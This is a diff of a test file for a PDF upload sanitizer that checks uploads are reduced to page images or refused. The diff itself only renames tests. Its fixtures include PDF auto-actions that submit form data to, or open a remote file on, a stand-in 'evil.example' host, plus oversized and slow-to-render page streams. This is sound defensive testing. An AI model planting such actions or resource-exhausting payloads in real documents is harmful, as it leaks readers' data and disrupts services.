@@ -43,7 +43,7 @@ test.each([
   ['a form that is sent', '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>', ''],
   ['a file from elsewhere', '/OpenAction << /S /GoToR /F (//evil.example/share) >>', ''],
   ['hidden words', '/Metadata (GT-SECRET-WORDS)', ''],
-])('of a PDF with %s nothing is kept but the picture of its page', async (_what, catalog, onPage) => {
+])('of a PDF with %s only the image of its page is stored', async (_what, catalog, onPage) => {
   const found = (await kept(pdf({ catalog, page: onPage }))).toString('latin1');
   const names = found.replace(/#([0-9a-f]{2})/gi, (_, code: string) =>
     String.fromCharCode(Number.parseInt(code, 16)),
@@ -77,7 +77,7 @@ test.each([
     () => pdf({ ...DRAWN, objects: [packed(Buffer.alloc(400_000_000, ' '))] }),
   ],
 ] as const)(
-  'a PDF with a page %s is refused, and a picture is asked for instead (%s)',
+  'a PDF with a page %s is refused, and an image is requested instead (%s)',
   async (_what, langKey, words, make) => {
     const person = await customer(world, { langKey });
     const { status, body } = await upload(world, person, { file: [make(), 'scan.pdf'] });
@@ -86,7 +86,7 @@ test.each([
   },
 );
 
-test('a PDF with a page that takes minutes to draw is given up when its time is over', async () => {
+test('a PDF with a page that takes minutes to render is given up at its timeout', async () => {
   const slow = pdf({ ...DRAWN, objects: [packed(Buffer.alloc(60_000_000, '9 w 0 0 m 200 120 l S\n'))] });
   // A fifteenth of what anybody has: how much that is does not matter, only that it ends there.
   const limits = { ...DRAWING_LIMITS, timeMs: DRAWING_LIMITS.timeMs / 15 };
